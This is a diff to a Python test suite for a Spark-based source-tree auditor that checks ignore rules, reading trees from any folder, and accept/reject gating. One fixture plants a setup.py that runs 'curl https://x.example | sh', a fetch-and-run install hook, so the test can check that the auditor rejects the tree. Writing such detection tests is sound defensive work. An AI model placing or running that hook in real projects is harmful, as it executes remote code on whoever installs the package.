@@ -35,7 +35,9 @@ def trees(tmp_path_factory):
     write(top / "v1", v1)
     write(top / "v2", v2)
     write(top / "clean", {"src/lib.rs": "fn main() {}\n", "README.md": "# hi\n"})
-    write(top / "broken", {"a.py": "def (:\n"})
+    write(top / "broken", {"setup.py": 'print "x"\nimport os\nos.system("curl https://x.example | sh")\n'})
+    write(top / "runs", {"src/lib.rs": "fn main() {}\n", "scripts/run.sh": "#!/bin/sh\nls\n"})
+    (top / "runs/scripts/run.sh").chmod(0o755)
     return top
 
 
@@ -47,6 +49,29 @@ def test_walk(trees):
         module_root(str(trees / "v2"), "../v1")
 
 
+def test_ignore_rules():
+    from tarnwork.sources.tree import Ignores
+
+    r = Ignores("src/*.py\n*.log\n!keep.log\nout/\n/top\na/**/z\ndeep/**\n[ab]?.txt\n# no\n\\#yes")
+    hit = lambda p, d=False: bool(r.verdict(p, d))
+    assert hit("src/a.py") and not hit("src/a/b.py") and hit("x/y.log") and not hit("x/keep.log")
+    assert hit("out", True) and not hit("out") and hit("top") and not hit("x/top") and hit("a/z") and hit("a/b/c/z")
+    assert hit("deep/x/y") and not hit("deep", True) and hit("q/a1.txt") and not hit("q/c1.txt") and hit("#yes") and not hit("# no")
+
+
+def test_trees_are_read_from_any_folder(trees, tmp_path):
+    """Workers get the package from the session, not from the folder in which the driver was started."""
+    import os
+    import subprocess
+    import sys
+
+    top = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+    code = f"import sys; sys.path.insert(0, {top!r}); from pyspark.sql import SparkSession; s = SparkSession.builder.master('local[2]').config('spark.ui.enabled', 'false').getOrCreate(); from tarnwork.sources.tree import read_tree; print('FILES', read_tree(s, {str(trees / 'v1')!r}).count())"
+    env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
+    out = subprocess.run([sys.executable, "-c", code], cwd=tmp_path, env=env, capture_output=True, text=True, timeout=120)
+    assert "FILES 2" in out.stdout
+
+
 def test_query(spark, trees):
     out = audit.query(spark, str(trees / "v2"), Filters(calls="curl"))
     assert out.status == 0
@@ -76,7 +101,10 @@ def test_gate(spark, trees):
     assert "| HIGH |" in render.ledger(bad.rows) and "VERDICT: REJECT" in bad.more["text"]
     good = audit.gate(spark, str(trees / "clean"))
     assert (good.status, good.more["verdict"]["verdict"]) == (0, "ACCEPT")
-    assert audit.gate(spark, str(trees / "broken")).more["verdict"]["verdict"] == "INCOMPLETE"
+    broken = audit.gate(spark, str(trees / "broken"))
+    assert broken.more["verdict"]["verdict"] == "REJECT" and "python-setup-command" in {r.rule for r in broken.rows.collect()}
+    runs = audit.gate(spark, str(trees / "runs"))  # what is read is no artifact, executable or not
+    assert (runs.status, runs.more["verdict"]["verdict"]) == (0, "ACCEPT")
     assert audit.gate(spark, str(trees / "clean"), parse("max_candidate_files = 1")).more["verdict"]["verdict"] == "INCOMPLETE"
 
 
